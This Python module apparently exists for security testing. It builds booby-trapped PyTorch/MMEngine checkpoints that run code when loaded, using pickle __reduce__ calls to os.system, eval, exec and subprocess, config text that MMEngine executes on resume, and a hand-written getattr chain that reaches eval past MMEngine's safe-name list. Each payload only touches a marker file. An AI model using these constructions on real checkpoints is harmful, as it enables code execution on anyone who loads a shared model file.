"""Checkpoints that create a file when they are loaded carelessly."""

import builtins
import os
import pickle
import shutil
import zipfile
from collections import OrderedDict
from pathlib import Path

import torch
from mmengine.logging import HistoryBuffer


class _Call:
    """Pickles as a call of ``function``."""

    def __init__(self, function, *args):
        self.call = function, args

    def __reduce__(self):
        return self.call


def _touch(marker: Path) -> str:
    return f"__import__('pathlib').Path({str(marker)!r}).touch()"


def write_payload(kind: str, path: Path, good: Path, marker: Path) -> Path:
    """Write a checkpoint as a stranger may send it.

    Args:
        kind: A key of :data:`PAYLOADS_AND_TEXTS`.
        path: Where to.
        good: A genuine checkpoint to hide in.
        marker: The file that appears when code runs.
    """
    if kind == 'getattr':
        return _write_getattr_chain(path, good, marker)
    checkpoint = PAYLOADS_AND_TEXTS[kind](torch.load(good, weights_only=False), marker)
    torch.save(checkpoint, path)
    return path


def _all_of_it(checkpoint, marker):
    return _Call(os.system, f"touch '{marker}'")


def _legacy_eval(checkpoint, marker):
    return [_Call(builtins.eval, _touch(marker))]


def _in_meta(checkpoint, marker):
    checkpoint['meta']['author'] = _Call(os.system, f"touch '{marker}'")
    return checkpoint


def _in_message_hub(checkpoint, marker):
    checkpoint['message_hub']['runtime_info']['note'] = [_Call(builtins.exec, _touch(marker))]
    return checkpoint


def _in_state_dict(checkpoint, marker):
    checkpoint['state_dict']['backbone.x'] = _Call(_subprocess(), ['touch', str(marker)])
    return checkpoint


def _subprocess():
    import subprocess

    return subprocess.check_call


def _config_text(checkpoint, marker):
    """No call in the pickle: MMEngine itself runs this text on resuming."""
    checkpoint['meta']['config'] = _touch(marker) + '\n'
    return checkpoint


def _config_text_that_clings(checkpoint, marker):
    """The same in a mapping whose ``pop`` does nothing."""
    meta = OrderedDict(checkpoint['meta'], config=_touch(marker) + '\n')
    meta.pop, meta.get, meta.keys = slice, slice, set
    checkpoint['meta'] = meta
    return checkpoint


def _config_text_in_the_hub(checkpoint, marker):
    """Resumed, it would go on into the training's own checkpoints, and into inferencers."""
    checkpoint['message_hub']['runtime_info']['cfg'] = _touch(marker) + '\n'
    return checkpoint


PAYLOADS = {
    'all of it': _all_of_it,
    'eval': _legacy_eval,
    'meta': _in_meta,
    'message_hub': _in_message_hub,
    'state_dict': _in_state_dict,
    'getattr': None,
}
CONFIG_TEXTS = {
    'config text': _config_text,
    'config text that clings': _config_text_that_clings,
    'config text in the hub': _config_text_in_the_hub,
}
PAYLOADS_AND_TEXTS = dict(PAYLOADS, **CONFIG_TEXTS)


def _write_getattr_chain(path: Path, good: Path, marker: Path) -> Path:
    """Runs code with nothing but the names that MMEngine takes for safe.

    getattr leads from HistoryBuffer to the globals of its module, where ``np`` is replaced by an
    object whose ``array`` is eval; then a buffer is built from a text.
    """

    def name(module, attribute):
        return pickle.GLOBAL + f'{module}\n{attribute}\n'.encode()

    def text(value):
        return pickle.BINUNICODE + len(value).to_bytes(4, 'little') + value.encode()

    def call(function, *args):
        count = (None, pickle.TUPLE1, pickle.TUPLE2)[len(args)]
        return function + b''.join(args) + count + pickle.REDUCE

    def attribute(owner, key):
        return call(name('builtins', 'getattr'), owner, text(key))

    def entry(key, value):
        return text(key) + value + pickle.SETITEM

    buffer = name(HistoryBuffer.__module__, 'HistoryBuffer')
    evaluate = attribute(attribute(name('builtins', 'getattr'), '__self__'), 'eval')
    empty = pickle.EMPTY_TUPLE
    impostor = (
        buffer + empty + pickle.NEWOBJ + pickle.EMPTY_DICT + entry('array', evaluate) + pickle.BUILD
    )
    module_globals = attribute(attribute(buffer, 'update'), '__globals__')
    code = text(_touch(marker))
    program = (
        pickle.PROTO
        + b'\x02'
        + pickle.EMPTY_DICT
        + entry('a', module_globals + entry('np', impostor))
        + entry('b', call(buffer, code, code))
        + pickle.STOP
    )
    shutil.copy(good, path)
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, 'w') as target:
        for item in source.infolist():
            target.writestr(
                item, program if item.filename.endswith('/data.pkl') else source.read(item)
            )
    return path
